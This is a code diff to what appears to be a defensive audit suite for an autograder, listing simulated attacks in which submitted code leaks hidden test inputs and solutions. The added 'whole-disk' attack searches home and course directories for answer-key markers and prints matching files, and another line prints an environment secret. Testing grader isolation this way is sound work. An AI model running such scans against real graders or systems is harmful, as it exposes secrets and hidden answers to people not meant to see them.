@@ -183,7 +183,7 @@ print(os.environ.get("BOW2LORA_SECRET"))""",
         "inputs-in-a-later-cell",
         "Keeps the hidden inputs that its functions are called with and prints them in a later cell.",
         RECORD,
-        cells={"judge": "print('STOLEN', seen)"},
+        cells={"judge": "for one in seen:\n    print('STOLEN', one)"},
         shows="a hidden input in an output",
     ),
     Attack(
@@ -216,5 +216,21 @@ def precision_recall_f1(labels, predictions):
 precision_recall_f1.__name__ = "STOLEN " + repr(seen[-1])"""
         },
         shows="a hidden input in a report",
+    ),
+    Attack(
+        "whole-disk",
+        "Looks through every readable file for hidden tests and solutions, the answers of the audit among them.",
+        """
+import helpers
+signs, until = ("BEGIN HIDDEN TESTS", "check.hidden()", "### BEGIN SOLUTION", '# %% right='), time.time() + 6
+roots = [pathlib.Path(helpers.__file__).resolve().parent.parent, COURSE.parent, pathlib.Path.home(), *COURSE.parents]
+for root in roots:
+    for folder, inner, names in os.walk(root):
+        inner[:] = [name for name in inner if name not in ("site-packages", "proc", "sys", ".git", "attacks")]
+        for name in names:
+            if time.time() < until and name.endswith((".py", ".ipynb", ".db", ".json", ".html", ".pyc")):
+                with contextlib.suppress(OSError):
+                    text = pathlib.Path(folder, name).read_text(errors="replace")
+                    print("STOLEN", text[:100_000]) if any(sign in text for sign in signs) else None""",
     ),
 ]
